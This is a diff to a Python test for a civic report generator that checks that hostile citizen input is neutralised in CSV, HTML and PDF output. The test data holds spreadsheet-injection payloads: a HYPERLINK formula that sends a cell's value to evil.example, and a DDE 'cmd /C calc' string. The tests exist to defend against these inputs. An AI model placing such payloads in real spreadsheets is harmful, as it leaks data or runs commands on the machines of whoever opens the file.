@@ -8,6 +8,9 @@ start a formula.
 from __future__ import annotations
 
 import csv
+import os
+import shutil
+import subprocess
 from pathlib import Path
 
 import numpy as np
@@ -22,7 +25,7 @@ from analysis.spreadsheet import FORMULA_STARTS, safe_cell
 
 HOSTILE = [
     r"Bomen $\frac{1}{$ kosten $x^^2$ euro",
-    "Van $5 naar $10 per uur",
+    "Van $5 naar $10 per uur **vet** <i>schuin</i> --door--",
     '=HYPERLINK("http://evil.example/?"&A1,"klik")',
     "+1+cmd|' /C calc'!A0",
     "-2+3 meer fietsen",
@@ -142,6 +145,24 @@ def test_report_from_hostile_proposals(hostile_export: Path, tmp_path: Path, cap
     assert [cell for cell in cells if _starts_formula(cell)] == []
     page = (out / "index.html").read_text("utf-8")
     assert "<script>alert" not in page
+    pdf_text = _pdf_text(out / "report.pdf")
+    if pdf_text is not None:  # fpdf2's markdown and HTML modes are never fed citizens' text
+        assert HOSTILE[0] in pdf_text and HOSTILE[1] in pdf_text
+
+
+def _pdf_text(pdf: Path) -> str | None:
+    if shutil.which("pdftotext") is None:
+        if os.environ.get("CI"):
+            pytest.fail("pdftotext is not installed on CI (.ci/run installs poppler-utils)")
+        return None
+    done = subprocess.run(
+        ["pdftotext", "-layout", str(pdf), "-"],
+        capture_output=True,
+        text=True,
+        check=True,
+        timeout=60,
+    )
+    return done.stdout
 
 
 def test_opinions_csv_from_hostile_proposals(hostile_export: Path, tmp_path: Path) -> None:
